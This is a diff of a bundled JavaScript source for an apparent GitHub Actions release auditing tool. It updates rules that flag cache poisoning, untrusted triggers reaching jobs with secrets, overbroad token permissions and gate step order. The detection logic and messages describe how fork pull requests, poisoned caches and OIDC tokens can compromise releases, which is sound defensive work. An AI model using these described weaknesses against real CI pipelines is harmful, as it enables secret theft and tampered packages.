+    return s.inputs ? out.map((x) => ({ ...x, resolve: withInputs(x.resolve, s.inputs) })) : out;
+}
+function contextsOf(s, wf, targets) {
+    const legs = matrixLegs(s.job);
+    const legCtx = legs
+        ? legs.map((l) => ({ r: legResolver(l), ...(Object.keys(l).length ? { leg: Object.entries(l).map(([k, v]) => `${k}: ${JSON.stringify(v)}`).join(', ') } : {}) }))
+        : [{ r: () => UNKNOWN }];
+    const out = [];
+    if (wf.kind !== 'workflow') {
+        for (const { r, leg } of legCtx)
+            out.push({ ...(leg ? { leg } : {}), resolve: (p) => (p.startsWith('matrix.') ? r(p) : UNKNOWN) });
+        return out;
     }
+    for (const o of occasions(wf)) {
+        if (stepReachable(wf, s.top.job, s.top.step, o) === false)
+            continue;
+        if (targets.length && targets.every((t) => jobReachable(wf, t, o) === false))
+            continue;
+        // a called workflow runs on its caller's event, which this file does not say
+        const event = o.event === 'workflow_call' ? undefined : o.event === 'push' ? `push:${o.refKind}` : o.event;
+        for (const { r, leg } of legCtx)
+            out.push({ event, label: o.label, ...(leg ? { leg } : {}), resolve: (p) => (p.startsWith('matrix.') ? r(p) : o.resolve(p)) });
+    }
+    return out;
+}
+/** Where the job sets an environment variable: the workflow's, the job's and its steps' `env:`, and `$GITHUB_ENV` writes. */
+function envSettings(name, s, all, top) {
+    const out = [];
+    const look = (env, where) => {
+        for (const [k, v] of env)
+            if (k === name)
+                out.push({ text: scalarText(v) ?? '', at: v.pos, where });
+    };
+    look(top.env, 'the workflow `env:`');
+    if (s.wf !== top)
+        look(s.wf.env, `${code(s.wf.file)} \`env:\``);
+    look(s.job.env, `job ${code(s.job.id)} \`env:\``);
+    const re = new RegExp(`\\b${name}=([^\\s"'>;]*)`);
+    for (const o of all) {
+        look(o.step.env, 'a step `env:`');
+        const run = runText(o.step);
+        if (!run || !run.includes('GITHUB_ENV'))
+            continue;
+        for (const line of logicalLines(run)) {
+            const m = line.includes('GITHUB_ENV') ? re.exec(line) : null;
+            if (m)
+                out.push({ text: m[1] || 'true', at: posIn(o.wf, o.step.run, `${name}=`), where: 'a script writing `$GITHUB_ENV`' });
+        }
+    }
+    return out;
+}
+/** ` for a push of a tag (v*), matrix leg os: "windows-latest"`: where a toggle was found on. */
+function onFor(x, text) {
+    const parts = [x.label, /\bmatrix\./i.test(text) && x.leg ? `matrix leg ${x.leg}` : undefined].filter(Boolean);
+    return parts.length ? ` for ${parts.join(', ')}` : '';
+}
+/** The position of `needle` inside a scalar (block scalars included), or the scalar's own. */
+function posIn(wf, n, needle) {
+    const raw = wf.source.slice(n.offset, n.end);
+    const i = raw.indexOf(needle);
+    if (i < 0)
+        return n.pos;
+    const p = wf.yaml.lineCounter.linePos(n.offset + i);
+    return { line: p.line, column: p.col };
+}
+/** Does the default hold in this context? */
+function defaultAt(d, c, x, plain, at) {
+    const how = c.defaultValue ? ` (\`${c.input}: ${c.defaultValue}\`)` : '';
+    if (d.is === 'off')
+        return { state: 'off', why: '', at };
+    if (d.is === 'conditional')
+        return { state: 'conditional', why: `restores ${plain} by default ${c.conditionalWhy ?? "when the repository's files ask for it"}`, at };
+    if (!d.skips?.length)
+        return { state: 'on', why: `restores ${plain} by default${how}${x.label ? ` on ${x.label}` : ''}`, at };
+    if (x.event === undefined)
+        return { state: 'conditional', why: `restores ${plain} by default${how} on most events (not on ${d.skips.join(', ')})`, at };
+    if (d.skips.includes(x.event) || d.skips.includes(x.event.split(':')[0]))
+        return { state: 'off', why: '', at };
+    return { state: 'on', why: `restores ${plain} by default${how} on ${x.label}`, at };
+}
+/**
+ * The defaults that can apply: the one of the step's version, or — when the version cannot be
+ * told — every distinct one, read at the most dangerous (the finding then says so, as a warning).
+ */
+function defaultsFor(c, ver) {
+    const ds = c.defaults ?? [];
+    if (ver !== undefined)
+        return { rules: [ds.find((d) => versionIn(ver, d.from, d.to)) ?? { is: 'on' }], unknownVersion: false };
+    const ranged = ds.some((d) => d.from !== undefined || d.to !== undefined);
+    if (!ranged)
+        return { rules: [ds[0] ?? { is: 'on' }], unknownVersion: false };
+    const rules = [...ds];
+    const last = ds[ds.length - 1];
+    if (last && (last.from !== undefined || last.to !== undefined))
+        rules.push({ is: 'on' });
+    return { rules, unknownVersion: true };
+}
+function readAt(s, c, x, all, top, rules) {
+    const step = s.step;
+    const at = step.uses.pos;
+    const what = (v) => c.what.replace('$value', v.trim());
+    const plain = what('').replace(/\s+/g, ' ').replace(/the {2}/, 'the ');
+    const one = (r) => rules.map(() => r);
+    // opt-outs: the step restores nothing
+    let optUnknown;
+    for (const o of c.optOut ?? []) {
+        const key = typeof o === 'string' ? o : o.input;
+        if (typeof o !== 'string' && o.unlessSet.some((k) => (input(step, k) ?? '').trim() !== ''))
+            continue;
+        const t = truth(input(step, key), x);
+        if (t === true)
+            return one({ state: 'off', why: '', at });
+        if (t === 'unknown')
+            optUnknown = `\`${key}: ${input(step, key).trim()}\``;
+    }
+    for (const key of c.optOutWhenFalse ?? []) {
+        const t = truth(input(step, key), x);
+        if (t === false)
+            return one({ state: 'off', why: '', at });
+        if (t === 'unknown')
+            optUnknown = `\`${key}: ${input(step, key).trim()}\``;
+    }
+    const unsure = (r) => (optUnknown && r.state === 'on' ? { state: 'unknown', why: `${r.why.replace(/^restores/, 'may restore')} (${optUnknown} cannot be decided before the run)`, at: r.at } : r);
+    if (c.env) {
+        let best = { state: 'off', why: '', at };
+        for (const e of envSettings(c.env, s, all, top)) {
+            const v = valueAt(e.text, x);
+            const r = v === undefined
+                ? { state: 'unknown', why: `may restore ${plain} (\`${c.env}: ${e.text.trim()}\`, set in ${e.where}, cannot be decided before the run)`, at: e.at }
+                : v.trim() === '' || isFalse(v)
+                    ? { state: 'off', why: '', at }
+                    : { state: 'on', why: `restores ${plain} (\`${c.env}\` is set in ${e.where}${x.label && e.text.includes('${{') ? ` and is on${onFor(x, e.text)}` : ''})`, at: e.at };
+            if (DANGER[r.state] > DANGER[best.state])
+                best = r;
+        }
+        return one(unsure(best));
+    }
+    if (!c.input)
+        return one(unsure({ state: 'on', why: `restores ${plain}`, at }));
+    const raw = input(step, c.input);
+    const kind = c.kind ?? 'boolean';
+    if (raw !== undefined && raw.trim() !== '') {
+        const v = valueAt(raw, x);
+        const expr = raw.includes('${{');
+        const inputAt = withPos(s, c.input);
+        if (v === undefined)
+            return one(unsure({ state: 'unknown', why: `may restore ${what('configured')} (\`${c.input}: ${raw.trim()}\` cannot be decided before the run)`, at: inputAt }));
+        const on = (w) => one(unsure({ state: 'on', why: expr ? `restores ${w} (\`${c.input}: ${raw.trim()}\` is on${onFor(x, raw)})` : `restores ${w}`, at: inputAt }));
+        const val = v.trim().toLowerCase();
+        if (kind === 'string') {
+            if (val === '' || isFalse(val))
+                return one({ state: 'off', why: '', at });
+            return on(what(expr ? v : raw));
+        }
+        if (kind === 'exact') {
+            if (c.values?.on.includes(val))
+                return on(plain);
+            if (c.values?.off.includes(val))
+                return one({ state: 'off', why: '', at });
+        }
+        else {
+            if (isTrue(val))
+                return on(plain);
+            if (isFalse(val))
+                return one({ state: 'off', why: '', at });
+        }
+        // another value (setup-uv's `auto`) leaves the default
+    }
+    if (c.offWhenFalse?.some((k) => truth(input(step, k), x) === false))
+        return one({ state: 'off', why: '', at });
+    return rules.map((d) => unsure(defaultAt(d, c, x, plain, at)));
+}
+function judge(s, all, top, targets) {
+    const c = factsOf(s.step)?.cache;
+    if (!c)
+        return undefined;
+    // a condition written as an expression may hold: read so that it never hides a cache
+    if (c.onlyWhen && !holds(c.onlyWhen, s.step))
+        return undefined;
+    const ver = versionParts(s.step, s.wf);
+    const { rules, unknownVersion } = defaultsFor(c, ver);
+    let best;
+    let byVersion = false;
+    for (const x of contexts(s, top, targets)) {
+        const rs = readAt(s, c, x, all, top, rules);
+        let r = rs[0];
+        for (const y of rs)
+            if (DANGER[y.state] > DANGER[r.state])
+                r = y;
+        if (!best || DANGER[r.state] > DANGER[best.state]) {
+            best = r;
+            byVersion = unknownVersion && rs.some((y) => y.state !== r.state);
+        }
+        if (best.state === 'on' && !byVersion)
+            break;
+    }
+    if (!best || best.state === 'off')
+        return undefined;
+    if (!byVersion)
+        return { reading: best };
+    const which = rules.filter((d) => d.is !== 'off' && !d.skips?.length);
+    const range = which[0] ? (which[0].from !== undefined ? `v${which[0].from}${which[0].to !== undefined ? `–v${which[0].to}` : '+'}` : which[0].to !== undefined ? `up to v${which[0].to}` : 'the newest version') : 'its most dangerous version';
+    return { reading: best, unknownVersion: `the version of ${code(s.step.uses.value)} cannot be told (no version tag or comment), so it is read as ${range}` };
+}
+/**
+ * Does a needed job hand anything to what is published? It does when it uploads an artifact,
+ * saves a cache or publishes, or when a guarded job reads its outputs (`needs.<id>.outputs`).
+ * A test gate or a release-note builder does neither: a poisoned cache there cannot reach the
+ * package, so it is a warning.
+ */
+function feedsRelease(job, wf, targets) {
+    if (job.uses)
+        return true;
+    const hands = job.steps.some((st) => {
+        const a = actionOf(st);
+        return a === 'actions/upload-artifact' || a === 'actions/cache/save' || a === 'actions/cache' || !!stepPublishes(st);
+    });
+    if (hands)
+        return true;
+    const id = job.id.toLowerCase();
+    return targets.some((t) => {
+        const text = wf.source.slice(t.node.offset, t.node.end).toLowerCase();
+        return text.includes(`needs.${id}.`) || text.includes(`needs['${id}']`);
+    });
 }
 const cache_poisoning_rule = {
     id: 'cache-poisoning',
@@ -32756,15 +35704,23 @@ const cache_poisoning_rule = {
             return [];
         const out = [];
         for (const site of jobSites(ctx.workflow, ctx.scope, ctx.local)) {
-            for (const s of stepSites(site, ctx.local)) {
-                const h = judge(s, ctx.workflow);
+            const all = stepSites(site, ctx.local);
+            for (const s of all) {
+                const h = judge(s, all, ctx.workflow, ctx.scope.targets);
                 if (!h)
                     continue;
+                const r = h.reading;
+                const feeds = site.target || site.chain.length > 0 || feedsRelease(site.job, site.wf, ctx.scope.targets);
+                // an action file audited alone: whether a release job calls it is not known here (the
+                // workflow that calls it is audited with it and blocks there)
+                const warn = r.state === 'conditional' || h.unknownVersion !== undefined || !feeds || ctx.workflow.kind === 'action';
                 out.push(ctx.finding({
-                    message: `${code(s.step.uses.value)} ${h.why} in job ${code(site.job.id)}, which ${site.target ? 'publishes' : 'builds what is published'}`,
-                    fix: `${h.off} A release build should start from nothing that another workflow could have written.`,
-                    ...atStep(s, h.at),
-                    ...(h.how === 'conditional' ? { severity: 'warning' } : {}),
+                    message: `${code(s.step.uses.value)} ${r.why} ${ctx.workflow.kind === 'action'
+                        ? 'in this composite action: a release job that calls it restores the cache too'
+                        : `in job ${code(site.job.id)}, which ${site.target ? 'publishes' : feeds ? 'builds what is published' : 'runs before the release but hands it no artifact and no output'}`}${h.unknownVersion ? `; ${h.unknownVersion}` : ''}`,
+                    fix: `${factsOf(s.step).cache.off}${h.unknownVersion ? ' Add a version comment to the pin (`# vX.Y.Z`) so the gate can read its default.' : ''} A release build should start from nothing that another workflow could have written.`,
+                    ...atStep(s, r.at),
+                    ...(warn ? { severity: 'warning' } : {}),
                 }));
             }
         }
@@ -32811,7 +35767,13 @@ function workflowRun(ctx) {
     const names = upstreamNames(ctx.workflow);
     if (names.length === 0)
         return { severity: 'error', why: 'it follows any workflow, including ones started by pull requests' };
-    const found = names.map((n) => ({ n, wf: ctx.related.find((r) => r.name === n || r.file.endsWith(`/${n}`)) }));
+    // every workflow that carries the name: GitHub follows all of them, and one started by a
+    // pull request is enough
+    const found = names.flatMap((n) => {
+        const all = ctx.related.filter((r) => r.name === n || r.file.endsWith(`/${n}`));
+        const risky = all.find((r) => r.triggers.some((t) => PR_TRIGGERS.includes(t.event)));
+        return [{ n, wf: risky ?? all[0] }];
+    });
     const risky = found.filter((f) => f.wf?.triggers.some((t) => PR_TRIGGERS.includes(t.event)));
     if (risky.length) {
         return {
@@ -32828,6 +35790,29 @@ function workflowRun(ctx) {
         why: `${found.map((f) => `${code(f.n)} runs on ${f.wf.triggers.map((t) => t.event).join(', ')}`).join('; ')}: no pull request starts it, but this job cannot tell which push or ref produced what it publishes`,
     };
 }
+/** Scopes whose write lets a job start or make a release: push a tag, a package, an OIDC token, a run. */
+const RELEASE_SCOPES = ['contents', 'packages', 'id-token', 'actions', 'deployments'];
+/** Does a job hold secrets (beyond its own token) or a token that can make a release? */
+function holdsReleasePower(wf, job) {
+    if (job.secrets)
+        return true;
+    const text = wf.source.slice(job.node.offset, job.node.end);
+    for (const m of text.matchAll(/\bsecrets\s*(?:\.\s*([A-Za-z_][\w-]*)|\[)/gi))
+        if (!m[1] || m[1].toLowerCase() !== 'github_token')
+            return true;
+    const p = job.permissions ?? wf.permissions;
+    if (!p || p.kind === 'write-all' || p.kind === 'expression')
+        return true;
+    return RELEASE_SCOPES.some((s) => p.scopes.get(s)?.value === 'write');
+}
+/** What token the reached jobs hold, in words: write, read-only, or the repository's default. */
+function tokenWords(wf, jobs) {
+    const perms = jobs.map((j) => j.permissions ?? wf.permissions);
+    if (perms.some((p) => !p))
+        return "the repository's default token, which may be read-write";
+    const write = perms.some((p) => p.kind === 'write-all' || p.kind === 'expression' || [...p.scopes.values()].some((v) => v.value === 'write'));
+    return write ? 'a write token' : 'a read-only token';
+}
 const dangerous_triggers_rule = {
     id: 'dangerous-triggers',
     title: 'untrusted trigger reaches the publishing job',
@@ -32838,6 +35823,24 @@ const dangerous_triggers_rule = {
         const wf = ctx.workflow;
         const guarded = ctx.scope.targets;
         const out = [];
+        // the event that actually started this run: whatever the `if:` reasoning says, a job about
+        // to publish on an event an outsider can start does not publish (inside a reusable
+        // workflow, the event is the caller's)
+        const rt = ctx.runtime?.eventName;
+        if (ctx.scope.mode === 'gate' && rt && DANGEROUS_EVENTS[rt]) {
+            const up = ctx.runtime?.upstreamEvent;
+            const fromOutside = rt !== 'workflow_run' || !up || PR_TRIGGERS.includes(up) || !!DANGEROUS_EVENTS[up];
+            if (fromOutside) {
+                const job = guarded[0];
+                const via = rt === 'workflow_run' ? (up ? `, following a run started by \`${up}\`` : ', following a run whose event could not be read') : '';
+                out.push(ctx.finding({
+                    message: `this run was started by \`${rt}\`${via}${wf.triggers.some((t) => t.event === 'workflow_call') ? ' (the caller\'s event: this is a reusable workflow)' : ''}: ${DANGEROUS_EVENTS[rt]}; job ${code(job.id)} must not publish from it, whatever its \`if:\` conditions say`,
+                    fix: 'Publish only from runs started by `release`, a tag push or `workflow_dispatch`; do not call the publishing workflow from a workflow that outsiders can start.',
+                    at: job.pos,
+                    job: job.id,
+                }));
+            }
+        }
         for (const occ of occasions(wf)) {
             const risk = DANGEROUS_EVENTS[occ.event];
             if (!risk)
@@ -32847,10 +35850,17 @@ const dangerous_triggers_rule = {
                 continue;
             const jobs = reached.map((j) => code(j.id)).join(', ');
             const what = ctx.scope.mode === 'all' ? 'job' : 'publishing job';
-            let severity = 'error';
-            let why = risk;
-            if (occ.event === 'workflow_run')
+            // in a workflow where nothing publishes, the trigger is the release's risk only when the
+            // jobs it reaches hold what a release is made with: secrets (Kong, December 2024), or a
+            // token that can push tags, packages or OIDC tokens; a labeller is said, not blocked
+            let severity = ctx.scope.mode === 'all' && !reached.some((j) => holdsReleasePower(wf, j)) ? 'warning' : 'error';
+            let why = occ.event === 'pull_request_target' ? `runs for pull requests from forks with the base repository's secrets and ${tokenWords(wf, reached)}` : risk;
+            if (occ.event === 'workflow_run') {
+                ;
                 ({ severity, why } = workflowRun(ctx));
+                if (ctx.scope.mode === 'all' && !reached.some((j) => holdsReleasePower(wf, j)))
+                    severity = 'warning';
+            }
             out.push(ctx.finding({
                 message: `\`${occ.event}\` can reach ${what}${reached.length > 1 ? 's' : ''} ${jobs}: ${why}`,
                 fix: occ.event === 'workflow_run'
@@ -32882,31 +35892,45 @@ const LOW_RISK = new Set(['attestations']);
 function writes(p) {
     return [...p.scopes.entries()].filter(([, v]) => v.value === 'write').map(([k]) => k);
 }
-/** Why each write scope is needed in a job, from its steps (local composites included). */
-function needs(site, ctx) {
+function needs(site, ctx, depth = 0) {
     const m = new Map();
+    const out = { scopes: m, opaque: [] };
+    const add = (n) => {
+        for (const [scope, why] of n.scopes)
+            if (!m.has(scope))
+                m.set(scope, why);
+        if (n.bot && !out.bot)
+            out.bot = n.bot;
+        for (const o of n.opaque)
+            if (!out.opaque.includes(o))
+                out.opaque.push(o);
+    };
     if (site.job.uses) {
-        // the called workflow decides; its jobs are judged where they can be read
-        for (const s of ['id-token', 'contents', 'packages', 'attestations', 'pull-requests'])
-            m.set(s, `the called workflow ${site.job.uses.value}`);
-        return m;
+        // a reusable workflow gets no more than the calling job grants: what its jobs use is
+        // what the grant is for (read when the file was loaded; opaque otherwise)
+        const u = site.job.uses.parsed;
+        const called = u.kind === 'local' && u.reusableWorkflow ? ctx.local.get(u.path) : undefined;
+        if (!called || called === site.wf || depth >= MAX_COMPOSITE_DEPTH) {
+            out.opaque.push(`the called workflow ${code(site.job.uses.value)}`);
+            return out;
+        }
+        for (const j of called.jobs)
+            add(needs({ job: j, wf: called, chain: [...site.chain, site.job.id, site.job.uses.value], target: site.target }, ctx, depth + 1));
+        return out;
     }
     for (const s of stepSites(site, ctx.local)) {
         const n = stepNeeds(s.step);
-        if (n.idToken && !m.has('id-token'))
-            m.set('id-token', n.idToken);
-        if (n.attestations && !m.has('attestations'))
-            m.set('attestations', n.attestations);
-        if (n.contents && !m.has('contents'))
-            m.set('contents', n.contents);
-        if (n.packages && !m.has('packages'))
-            m.set('packages', n.packages);
-        if (n.bot && !m.has('bot'))
-            m.set('bot', n.bot);
-        if (n.pages)
-            m.set('pages', 'actions/deploy-pages');
+        add({ scopes: n.scopes, ...(n.bot ? { bot: n.bot } : {}), opaque: n.opaque ? [code(n.opaque)] : [] });
+        const u = s.step.uses?.parsed;
+        // a local action the gate could not read is as opaque as an unknown one
+        if (u && u.kind === 'local' && !u.reusableWorkflow && !localAction(ctx.local, u.path))
+            add({ scopes: new Map(), opaque: [code(s.step.uses.value)] });
     }
-    return m;
+    return out;
+}
+/** Only `workflow_call`: a called workflow's token is capped by its caller's grant. */
+function calledOnly(wf) {
+    return wf.triggers.length > 0 && wf.triggers.every((t) => t.event === 'workflow_call');
 }
 const excessive_permissions_rule = {
     id: 'excessive-permissions',
@@ -32918,26 +35942,44 @@ const excessive_permissions_rule = {
             return [];
         const out = [];
         const top = wf.permissions;
-        if (!top) {
-            out.push(ctx.finding({
-                message: 'the workflow has no top-level `permissions:`, so every job without its own block gets the repository\'s default token, which may be read-write',
-                fix: 'Add `permissions: {}` (or `permissions: { contents: read }`) at the top of the workflow, and grant each job only what it uses.',
-                at: { line: 1, column: 1 },
-            }));
+        // Without a top-level block, only the jobs without a block of their own get the
+        // repository's default token (a reusable-workflow call passes it on to the called
+        // workflow); a called workflow gets no more than its caller grants.
+        const bare = wf.jobs.filter((j) => !j.permissions);
+        if (!top && !calledOnly(wf)) {
+            out.push(ctx.finding(bare.length
+                ? {
+                    message: `the workflow has no top-level \`permissions:\`, and ${bare.length === 1 ? `job ${code(bare[0].id)} has` : `jobs ${bare.map((j) => code(j.id)).join(', ')} have`} no block of ${bare.length === 1 ? 'its' : 'their'} own, so ${bare.length === 1 ? 'it gets' : 'they get'} the repository's default token, which may be read-write`,
+                    fix: 'Add `permissions: {}` (or `permissions: { contents: read }`) at the top of the workflow, and grant each job only what it uses.',
+                    at: { line: 1, column: 1 },
+                }
+                : {
+                    message: 'the workflow has no top-level `permissions:`; every job declares its own, so none gets the default token today, but a job added later would',
+                    fix: 'Add `permissions: {}` at the top of the workflow (SPEC 8 asks for a read-only top level); the jobs keep their own blocks.',
+                    at: { line: 1, column: 1 },
+                    severity: 'warning',
+                }));
         }
-        else if (top.kind === 'write-all' || top.kind === 'read-all') {
+        else if (top && (top.kind === 'write-all' || top.kind === 'read-all')) {
             out.push(ctx.finding({
                 message: `top-level \`permissions: ${top.kind}\` gives every job ${top.kind === 'write-all' ? 'write access to every scope' : 'read access to every scope'}`,
                 fix: 'Use `permissions: {}` or `permissions: { contents: read }` at the top, and grant write scopes in the jobs that use them.',
                 at: top.pos,
+                // read-all is read-only, as SPEC 8 asks, only broader than it needs to be
+                ...(top.kind === 'read-all' ? { severity: 'warning' } : {}),
             }));
         }
-        else if (top.kind === 'map') {
+        else if (top?.kind === 'map') {
+            // a top-level grant reaches only the jobs without a block of their own
+            const reached = wf.jobs.filter((j) => !j.permissions);
             for (const s of writes(top)) {
                 out.push(ctx.finding({
-                    message: `top-level \`permissions:\` grants \`${s}: write\` to every job of the workflow`,
+                    message: reached.length
+                        ? `top-level \`permissions:\` grants \`${s}: write\` to every job without its own block (${reached.map((j) => code(j.id)).join(', ')})`
+                        : `top-level \`permissions:\` grants \`${s}: write\`; every job sets its own block, so none holds it today, but a job added later would`,
                     fix: `Keep the top level read-only and move \`${s}: write\` to the job that uses it.`,
                     at: top.scopes.get(s).pos,
+                    ...(reached.length ? {} : { severity: 'warning' }),
                 }));
             }
         }
@@ -32950,30 +35992,42 @@ const excessive_permissions_rule = {
             if (!own || own.kind !== 'map')
                 continue; // workflow-level grants are reported above
             const need = needs(site, ctx);
-            const bot = need.get('bot');
+            const bot = need.bot;
+            const publishing = site.target && ctx.scope.mode !== 'all';
+            const noun = publishing ? 'publishing job' : 'job';
             for (const s of writes(own)) {
-                if (need.has(s) && !(bot && (s === 'contents' || s === 'pull-requests')))
+                if (need.scopes.has(s) && !(bot && (s === 'contents' || s === 'pull-requests')))
                     continue;
-                if (!site.target) {
+                if (!site.target || ctx.scope.mode === 'all') {
                     if (s !== 'id-token')
                         continue;
+                    const opaque = need.opaque.length > 0;
                     out.push(ctx.finding({
-                        message: `job ${code(site.job.id)} holds \`id-token: write\` but neither publishes nor signs: any step in it can mint an OIDC token that trusted publishing accepts for this repository`,
+                        message: opaque
+                            ? `job ${code(site.job.id)} holds \`id-token: write\`, and none of the steps release-gate knows publishes or signs; it cannot tell what ${need.opaque.slice(0, 3).join(', ')} ${need.opaque.length > 1 ? 'do' : 'does'}. Any step in it can mint an OIDC token that trusted publishing accepts for this repository`
+                            : `job ${code(site.job.id)} holds \`id-token: write\` but neither publishes nor signs: any step in it can mint an OIDC token that trusted publishing accepts for this repository`,
                         fix: `Remove \`id-token: write\` from job ${code(site.job.id)}; keep it only in the job that publishes or attests.`,
                         ...atJob(site, own.scopes.get(s).pos),
+                        ...(opaque ? { severity: 'warning' } : {}),
                     }));
                     continue;
                 }
-                const botScope = !!bot && (s === 'contents' || s === 'pull-requests' || s === 'issues');
+                const botScope = !!bot && need.scopes.has(s) && (s === 'contents' || s === 'pull-requests' || s === 'issues');
+                // A step whose needs are unknown may be the one that uses the scope: say so, as a warning.
+                const opaque = !botScope && need.opaque.length > 0;
                 out.push(ctx.finding({
                     message: botScope
                         ? `publishing job ${code(site.job.id)} holds \`${s}: write\` for ${bot}, which opens release pull requests from the publishing job; a compromised dependency in this job could push to the repository`
-                        : `publishing job ${code(site.job.id)} holds \`${s}: write\`, which none of its steps uses`,
+                        : opaque
+                            ? `${noun} ${code(site.job.id)} holds \`${s}: write\`, which none of the steps release-gate knows uses; it cannot tell what ${need.opaque.slice(0, 3).join(', ')}${need.opaque.length > 3 ? ` and ${need.opaque.length - 3} more` : ''} ${need.opaque.length > 1 ? 'need' : 'needs'}`
+                            : `${noun} ${code(site.job.id)} holds \`${s}: write\`, which none of its steps uses`,
                     fix: botScope
                         ? `Split ${bot}'s release-PR step into its own job with \`contents\`/\`pull-requests: write\`, and keep the publishing job to \`id-token: write\`.`
-                        : `Remove \`${s}: write\` from job ${code(site.job.id)}${s === 'contents' ? ' (it is needed only by steps that create releases or push, such as `gh release create`)' : ''}.`,
+                        : opaque
+                            ? `If no step of job ${code(site.job.id)} needs \`${s}: write\`, remove it; if one does, keep it and suppress this finding with the reason (\`# release-gate: ignore[excessive-permissions] -- <step> needs ${s}\`).`
+                            : `Remove \`${s}: write\` from job ${code(site.job.id)}${s === 'contents' ? ' (it is needed only by steps that create releases or push, such as `gh release create`)' : ''}.`,
                     ...atJob(site, own.scopes.get(s).pos),
-                    ...(botScope || LOW_RISK.has(s) ? { severity: 'warning' } : {}),
+                    ...(botScope || opaque || LOW_RISK.has(s) ? { severity: 'warning' } : {}),
                 }));
             }
         }
@@ -32984,8 +36038,12 @@ const excessive_permissions_rule = {
 ;// CONCATENATED MODULE: ./src/audits/gate-order.ts
 /**
  * gate-order: release-gate must be the first step of the job it guards. A step before it
- * runs before the gate has decided, and can change what the gate inspects.
+ * runs before the gate has decided, and can change what the gate inspects. A step that runs
+ * code (`run:`, a Docker or local action, an action the catalogue does not mark read-only)
+ * can rewrite the gate's own files under `_actions`: an error. Read-only steps (checkout,
+ * harden-runner) before it: a warning.
  */
+
 
 /** Is this step release-gate itself? */
 function isGate(step, gateRepository) {
@@ -32998,9 +36056,22 @@ function isGate(step, gateRepository) {
             return true;
         return u.repo.toLowerCase() === 'release-gate' && u.path === '';
     }
-    // `uses: ./` runs the action at the root of this repository: release-gate testing itself
-    return u.kind === 'local' && u.path === '' && !gateRepository;
+    // `uses: ./` runs the action at the root of this repository: release-gate testing itself,
+    // when it is given release-gate's own inputs (in any other repository `./` is its own action)
+    return u.kind === 'local' && u.path === '' && !gateRepository && [...step.with.keys()].some((k) => GATE_INPUTS.has(k.toLowerCase()));
 }
+/** Inputs only release-gate has (action.yml): how `uses: ./` is known to be the gate. */
+const GATE_INPUTS = new Set(['fail-on', 'disable', 'allow', 'subject-path', 'artifact-name', 'artifact-path', 'signer-workflow', 'predicate-type', 'attestations', 'require-lock', 'custom-trusted-root']);
+/** Does a step run code of its own, or the repository's? (Only catalogue `readOnly` actions do not.) */
+function runsCode(step) {
+    if (step.run !== undefined)
+        return true;
+    const u = step.uses?.parsed;
+    if (!u || u.kind !== 'repo')
+        return true;
+    return factsOf(step)?.readOnly !== true;
+}
+const label = (s) => code(s.name ?? s.uses?.value ?? (s.run ? 'run' : `step ${s.index + 1}`));
 const gate_order_rule = {
     id: 'gate-order',
     title: 'release-gate is not the first step',
@@ -33013,10 +36084,13 @@ const gate_order_rule = {
             const i = job.steps.findIndex((s) => isGate(s, ctx.runtime?.gateRepository));
             if (i <= 0)
                 continue;
-            const before = job.steps.slice(0, i).map((s) => code(s.name ?? s.uses?.value ?? (s.run ? 'run' : `step ${s.index + 1}`)));
+            const coders = job.steps.slice(0, i).filter(runsCode);
+            const before = job.steps.slice(0, i).map(label);
             out.push(ctx.finding({
-                message: `release-gate is step ${i + 1} of job ${code(job.id)}; ${before.join(', ')} run${before.length === 1 ? 's' : ''} before it has decided`,
+                message: `release-gate is step ${i + 1} of job ${code(job.id)}; ${before.join(', ')} run${before.length === 1 ? 's' : ''} before it has decided` +
+                    (coders.length ? `; ${coders.map(label).join(', ')} run${coders.length === 1 ? 's' : ''} code that can rewrite the gate's own files under \`_actions\` or its environment` : ''),
                 fix: `Move the release-gate step to the top of job ${code(job.id)}'s \`steps:\`.`,
+                ...(coders.length ? { severity: 'error' } : {}),
                 at: job.steps[i].uses.pos,
                 job: job.id,
                 step: job.steps[i],
@@ -33190,8 +36264,13 @@ function mapEntries(node, what, problems) {
         return m;
     }
     for (const p of node.pairs)
-        m.set(String(p.key.value), p.value);
+        m.set(literalKey(String(p.key.value)), p.value);
     return m;
+}
+/** A key written as an expression of a string literal (`${{ 'TWINE_PASSWORD' }}`) is that string. */
+function literalKey(k) {
+    const m = /^\$\{\{\s*'((?:[^']|'')*)'\s*\}\}$/.exec(k);
+    return m ? m[1].replace(/''/g, "'") : k;
 }
 function stringAt(node, what, problems) {
     if (!node || (node.kind === 'scalar' && node.value === null))
@@ -33414,6 +36493,17 @@ function modelFromYaml(yaml, file) {
     else
         for (const p of jobs.pairs)
             wf.jobs.push(readJob(String(p.key.value), p.key.pos, p.value, problems));
+    // empty is missing: `environment: ''`, `{ name: '' }`, a mapping without `name:`, or an
+    // expression that can evaluate to empty declares no environment (GitHub runs the job without one)
+    for (const j of wf.jobs) {
+        const e = j.environment;
+        if (!e)
+            continue;
+        if (e.name === undefined || e.name.trim() === '' || mayBeEmpty(e.name, wf, j)) {
+            j.emptyEnvironment = { node: e.node, pos: e.pos, ...(e.name !== undefined ? { name: e.name } : {}) };
+            delete j.environment;
+        }
+    }
     const ids = new Set(wf.jobs.map((j) => j.id));
     for (const j of wf.jobs) {
         for (const n of j.needs) {
@@ -33422,6 +36512,120 @@ function modelFromYaml(yaml, file) {
         }
     }
     return wf;
+}
+/** Top-level `||` operands of an expression (outside parentheses and strings). Linear. */
+function disjuncts(t) {
+    const out = [];
+    let depth = 0;
+    let inStr = false;
+    let start = 0;
+    for (let i = 0; i < t.length; i++) {
+        const c = t[i];
+        if (inStr) {
+            if (c === "'")
+                inStr = false;
+            continue;
+        }
+        if (c === "'")
+            inStr = true;
+        else if (c === '(')
+            depth++;
+        else if (c === ')')
+            depth--;
+        else if (c === '|' && t[i + 1] === '|' && depth === 0) {
+            out.push(t.slice(start, i).trim());
+            start = i + 2;
+            i++;
+        }
+    }
+    out.push(t.slice(start).trim());
+    return out;
+}
+/** A non-empty string literal (`'pypi'`), as written in an expression. */
+const NON_EMPTY_LITERAL = /^'(?:[^']|'')+'$/;
+/** Can an input of the workflow be empty? Only `environment` and `choice` inputs with non-empty options cannot. */
+function inputMayBeEmpty(wf, name) {
+    let declared = false;
+    for (const t of wf.triggers) {
+        if (t.event !== 'workflow_dispatch' && t.event !== 'workflow_call')
+            continue;
+        const inputs = get(t.config, 'inputs');
+        if (!inputs || inputs.kind !== 'map')
+            return true;
+        const pair = inputs.pairs.find((p) => String(p.key.value).toLowerCase() === name.toLowerCase());
+        if (!pair)
+            return true;
+        declared = true;
+        const type = str(get(pair.value, 'type'));
+        if (type === 'environment')
+            continue;
+        const options = get(pair.value, 'options');
